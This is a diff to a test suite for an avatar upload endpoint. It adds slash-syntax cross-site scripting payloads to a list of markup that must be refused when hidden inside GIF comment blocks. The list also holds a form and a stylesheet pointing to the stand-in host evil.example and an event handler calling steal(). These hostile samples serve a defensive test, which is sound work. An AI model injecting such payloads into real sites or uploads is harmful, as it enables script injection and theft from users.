@@ -268,6 +268,9 @@ describe("avatar upload: refused input", () => {
       '<form action="//evil.example"><input name=p></form>',
       '<link rel="stylesheet" href="//evil.example/x.css">',
       '<p onmouseover = "steal()">x</p>',
+      // HTML also takes a slash between a tag's name and its attributes.
+      "<video/src/onerror=alert(1)>",
+      "<input/autofocus/onfocus=alert(1)>",
     ]) {
       const comment = bytes([0x21, 0xfe, markup.length], markup, [0]);
       await expectRefused(gif(4, 4, comment), "image/gif", 415);
